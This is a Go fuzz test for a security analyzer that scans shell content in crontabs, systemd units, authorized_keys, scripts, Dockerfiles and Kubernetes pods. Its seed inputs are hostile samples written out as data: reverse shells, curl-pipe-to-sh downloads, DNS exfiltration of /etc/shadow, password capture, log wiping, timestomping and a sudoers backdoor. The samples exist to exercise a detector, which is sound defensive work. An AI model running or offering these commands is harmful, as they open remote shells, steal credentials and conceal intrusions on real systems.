package shell

import (
	"fmt"
	"strings"
	"testing"
)

// FuzzContent analyses arbitrary text in the places shell code lives (crontabs, cron and rc
// scripts, systemd units, authorized_keys, plain scripts): the analyzer returns, the same
// findings from run to run, each with a rule, a path that is the file's own ("" means it, as
// the scan fills in) or an absolute one it writes, and a title. (Evidence is the file's own
// bytes: the report writers make it inert, not the analyzer.)
func FuzzContent(f *testing.F) {
	for _, s := range []struct{ p, text string }{
		{"/etc/cron.d/x", "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/a.sh | sh\n@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"},
		{"/etc/crontab", "* * * * * root echo " + b64("bash -c 'sh -i >& /dev/tcp/10.0.0.1/9 0>&1'") + " | base64 -d | sh\n"},
		{"/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f'\n"},
		{"/root/.ssh/authorized_keys", "command=\"nc -e /bin/sh 203.0.113.7 4444\" ssh-ed25519 AAAA x\n"},
		{"/usr/local/bin/run.sh", "#!/bin/sh\nf() { eval \"$(echo $1 | rev)\"; }\nf 'hs | 1.7.311.302//:ptth LSfs- lruc'\nwhile true; do $(printf '\\x73\\x68'); done\n"},
		{"/etc/profile.d/x.sh", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'\n"},
		{"/tmp/.x/su", "#!/bin/sh\ncp ./x /usr/bin/y; touch -hr /bin/ls -d@1 -- /usr/bin/y\nread -s -p 'Password: ' p\necho $p >> /tmp/.k\nfor c in $(base32 /etc/shadow); do dig $c.x.example.net; done\ndebugfs -w -R 'sif /usr/bin/y crtime 1' /dev/sda1\n"},
		{"/root/c.py", "def f(p):\n    f(p)\n    open(p, 'wb')\nfor p in ('/var/log/wtmp',):\n    f(p)\nimport os, getpass\nos.utime('/usr/bin/x', None)\nsocket.gethostbyname(open('/etc/shadow').read() + '.x.example.net')\npw = getpass.getpass('Password: ')\n"},
		{"/app/x.sh", "cat <<EOF > /etc/cron.d/y\n* * * * * root sh /tmp/z\nEOF\n${a:-$((1<<62))} \"$(( ${#x} ))\" ${x//a/b} <(echo) >(cat) {a,b}{c,d}\n"},
		{"/k8s/pod.yaml", "kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - command: [sh, -c]\n    args: [\"nc -e /bin/sh 203.0.113.7 4444\"]\n    securityContext: {privileged: true}\n  volumes: [{name: r, hostPath: {path: /}}]\nx: &a [*a]\n"},
		{"/src/Dockerfile", "FROM x\nRUN a \\\n  && curl http://203.0.113.7/i | sh\nCMD [\"sh\", \"-c\", \"ssh -NR 2222:localhost:22 u@203.0.113.7\"]\nRUN <<EOF\necho\nEOF\n"},
		{"/root/t.exp", "#!/usr/bin/expect -f\nspawn ssh -NR 2222:localhost:22 u@203.0.113.7\nexpect \"*assword*\"; send \"x\\r\"\n"},
		{"/opt/a.py", "import requests,subprocess\nwhile 1:\n c=requests.get('http://203.0.113.7/c').text\n requests.post('http://203.0.113.7/o',data=subprocess.getoutput(c))\n"},
		{"/usr/local/bin/g.awk", "#!/usr/bin/gawk -f\nBEGIN { s = \"/inet/tcp/0/203.0.113.7/53\"; while ((s |& getline c) > 0) { while ((c |& getline l) > 0) print l |& s; system(c); print $0 | \"sh\" } getline x < s }\n"},
		{"/opt/d.py", "import dns.resolver, os\nr = dns.resolver.Resolver()\na = r.query('x', 'TXT')\nc += a[0].to_text()\nos.system(c)\n"},
		{"/usr/lib/python3/dist-packages/sitecustomize.py", "import ctypes, os\np = os.path.join('/tmp', n, os.path.join(\n\nctypes.CDLL(p)\nctypes.CDLL(\n"},
		{"/dev/shm/.c", "#!/bin/bash\nread -n1 -s\nln -sf /dev/null /var/log/auth.log\ndd if=/dev/urandom of=/var/log/wtmp\ndate -s @1\ntouch -r /bin/ls x\necho 'u ALL=(ALL) ALL' >> /etc/sudoers\necho u:p | chpasswd\n"},
	} {
		f.Add(s.p, s.text)
	}
	f.Fuzz(func(t *testing.T, p, text string) {
		p = "/" + strings.TrimLeft(p, "/")
		got := scanFile(p, text)
		if again := scanFile(p, text); fmt.Sprint(again) != fmt.Sprint(got) {
			t.Fatalf("two analyses differ:\n%s\n%s", dump(got), dump(again))
		}
		for _, x := range got {
			if x.Rule == "" || x.Title == "" || x.Path != "" && !strings.HasPrefix(x.Path, "/") {
				t.Fatalf("finding %+v", x)
			}
		}
	})
}
